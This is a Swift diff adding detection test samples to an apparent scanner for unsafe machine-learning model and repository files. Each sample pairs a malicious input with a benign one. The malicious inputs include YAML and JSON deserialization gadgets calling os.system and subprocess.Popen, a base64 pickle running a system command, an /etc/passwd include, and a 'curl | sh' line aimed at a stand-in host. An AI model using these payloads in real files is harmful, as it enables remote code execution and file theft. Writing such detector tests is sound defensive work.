@@ -1,3 +1,4 @@
+import Foundation
 import Inspection
 import ModelFormats
 
@@ -27,7 +28,12 @@ extension Sample {
 }
 
 extension RuleSample {
-    static let repository = imports + dangerousImports + repositoryTexts + indexes
+    static let repository = imports + dangerousImports + madeObjects + repositoryTexts + packages + indexes
+
+    /// A call in a pickle, in base64.
+    private static func encoded(_ module: String, _ name: String) -> String {
+        Data(PickleBuilder.stream { $0.call(module, name) }).base64EncodedString()
+    }
 
     private static let indexes: [RuleSample] = [
         .init(
@@ -142,7 +148,90 @@ extension RuleSample {
             butNot: .yaml("prose", "text: the _target_ of os.system\n")),
     ]
 
+    private static let madeObjects: [RuleSample] = [
+        .init(
+            .repositoryDangerousImport, .yaml("a target", "model:\n  target: subprocess.Popen\n  params: {}\n"),
+            butNot: .yaml("a target", "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n")),
+        .init(
+            .repositoryDangerousImport, .yaml("codes", #""_tar\x67et_": "o\u0073.system""#),
+            butNot: .yaml("codes", #""_tar\x67et_": "torch.nn.Line\u0061r""#)),
+        .init(
+            .repositoryDangerousImport, .yaml("a class", "model:\n  class_path: os.system\n"),
+            butNot: .yaml("a class", "model:\n  class_path: lightning.pytorch.demos.BoringModel\n")),
+        .init(
+            .repositoryDangerousImport, .yaml("apply", "a: !apply:os.system [id]\n"),
+            butNot: .yaml("apply", "a: !apply:torch.manual_seed [1]\n")),
+        .init(
+            .repositoryUnknownImport, .yaml("new", "a: !new:mine.Model\n"),
+            butNot: .yaml("new", "a: !new:speechbrain.nnet.linear.Linear\n")),
+        .init(
+            .repositoryUnknownImport, .yaml("module", "a: !module:mine\n"),
+            butNot: .yaml("another tag", "a: !ref <b>\n")),
+        .init(
+            .jsonOutsidePath, .yaml("include", "a: !include:/etc/passwd\n"),
+            butNot: .yaml("include", "a: !include:b.yaml\n")),
+        .init(
+            .repositoryYAMLObject, .yaml("Java", "a: !!java.net.URLClassLoader [[b]]\n"),
+            butNot: .yaml("a number", "a: !!float 1.5\n")),
+        .init(
+            .repositoryYAMLObject, .yaml("Ruby", "a: !ruby/object:Gem::Installer\n"),
+            butNot: .yaml("prose", "a: see !ruby\n")),
+        .init(
+            .repositoryYAMLObject,
+            Sample("no suffix", name: "hparams", text: "a: !!python/object/apply:os.system [id]\n"),
+            butNot: Sample("no suffix", name: "hparams", text: "a: !!python/tuple [1]\n")),
+        .init(
+            .repositoryDangerousImport, .json("a target", #"{"model":{"target":"os.system","params":{}}}"#),
+            butNot: .json("a target", #"{"model":{"target":"ldm.models.autoencoder.AutoencoderKL"}}"#)),
+        .init(
+            .repositoryDangerousImport, .json("jsonpickle", #"{"py/object":"subprocess.Popen"}"#),
+            butNot: .json("another name", #"{"py":"subprocess.Popen"}"#)),
+        .init(
+            .repositoryUnknownImport, .json("jsonpickle", #"{"a":[{"py/type":"mine.Model"}]}"#),
+            butNot: .json("jsonpickle", #"{"a":[{"py/type":"collections.OrderedDict"}]}"#)),
+        .init(
+            .repositoryDangerousImport, .json("jsonpickle", #"{"py/repr":"os/os.system('id')"}"#),
+            butNot: .json("a tuple", #"{"py/tuple":["os.system"]}"#)),
+        .init(
+            .repositoryDangerousImport, .json("megatron", #"{"peft_type":"LORA","megatron_core":"os"}"#),
+            butNot: .json("megatron", #"{"peft_type":"LORA","megatron_core":"megatron.core"}"#)),
+        .init(
+            .repositoryDangerousImport, .json("no class", #"{"unet":["os","system"]}"#, name: "model_index.json"),
+            butNot: .json("another file", #"{"unet":["os","system"]}"#)),
+    ]
+
     private static let repositoryTexts: [RuleSample] = [
+        .init(
+            .jsonTrustRemoteCode, .json("hyphens", #"{"trust-remote-code":true}"#),
+            butNot: .json("hyphens", #"{"trust-remote-code":false}"#)),
+        .init(
+            .jsonTrustRemoteCode, .json("an argument", #"{"args":["serve","--trust-remote-code"]}"#),
+            butNot: .json("prose", #"{"args":["trust remote code"]}"#)),
+        .init(
+            .jsonForeignKernel, .json("a kernel", #"{"kernel_config":{"RMSNorm":"org/kernels:Norm"}}"#),
+            butNot: .json("no kernel", #"{"kernel_config":{"use":"eager"}}"#)),
+        .init(
+            .textEmbeddedCode, .json("code", #"{"init":"__import__('os').system('id')"}"#),
+            butNot: .json("a name", #"{"init":"os.system"}"#)),
+        .init(
+            .textEmbeddedCode, .json("a shell", #"{"x":"curl -s https://x.example | sh"}"#),
+            butNot: .json("an address", #"{"x":"curl -s https://x.example"}"#)),
+        .init(
+            .textEmbeddedCode, .yaml("code", "x: ${eval:__import__('os').system('id')}\n"),
+            butNot: .yaml("a name", "x: ${oc.env:HOME}\n")),
+        .init(
+            .pickleNestedDangerous, .json("base64", #"{":serialized:":"\#(Self.encoded("os", "system"))"}"#),
+            butNot: .json("base64", #"{":serialized:":"\#(Self.encoded("mine", "Space"))"}"#)),
+        .init(
+            .pickleNestedDangerous,
+            .json("another protocol", #"{":serialized:":"Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu"}"#),
+            butNot: .json("another name", #"{":type:":"Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu"}"#)),
+        .init(
+            .pickleNested, .json("base64", #"{":serialized:":"\#(Self.encoded("mine", "Space"))"}"#),
+            butNot: .json("base64", #"{":serialized:":"\#(Self.encoded("collections", "OrderedDict"))"}"#)),
+        .init(
+            .pickleNested,
+            .json("a function", #"{"f":"\#(Self.encoded("cloudpickle.cloudpickle", "_make_function"))"}"#)),
         .init(
             .jsonTrustRemoteCode, .yaml("trust", "model:\n  trust_remote_code: True\n"),
             butNot: .yaml("no trust", "model:\n  trust_remote_code: false\n")),
@@ -165,6 +254,28 @@ extension RuleSample {
             .repositoryYAMLObject,
             .yaml("a directive", "%TAG !p! tag:yaml.org,2002:\n---\na: !p!python/object/apply:os.system [id]\n"),
             butNot: .yaml("another directive", "%YAML 1.2\n---\na: b\n")),
+    ]
+
+    private static let packages: [RuleSample] = [
+        .init(
+            .repositoryForeignPackage, Sample("no space", name: "requirements.txt", text: "-rother\n"),
+            butNot: Sample("an option", name: "requirements.txt", text: "--no-binary x\n")),
+        .init(
+            .repositoryForeignPackage, Sample("a file", name: "requirements.txt", text: "x-1.0-py3-none-any.whl\n"),
+            butNot: Sample("a name", name: "requirements.txt", text: "wheel # x.whl\n")),
+        .init(
+            .repositoryForeignPackage, Sample("a folder", name: "requirements.txt", text: "x\\y\n"),
+            butNot: Sample("an extra", name: "requirements.txt", text: "x[y,z]>=1\n")),
+        .init(
+            .repositoryForeignPackage,
+            Sample("conda", name: "conda.yaml", text: "dependencies:\n  - pip:\n    - git+https://x.example/x\n"),
+            butNot: Sample(
+                "conda", name: "conda.yaml",
+                text: "channels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip:\n  - mlflow==2.1\n")),
+        .init(
+            .repositoryForeignPackage,
+            Sample("project", name: "pyproject.toml", text: "dependencies = [\"x @ https://x.example/x.whl\"]\n"),
+            butNot: Sample("project", name: "pyproject.toml", text: "homepage = \"https://x.example\"\n")),
         .init(
             .repositoryForeignPackage,
             Sample("index", name: "requirements.txt", text: "--extra-index-url https://x.example\ntorch==2.1\n"),
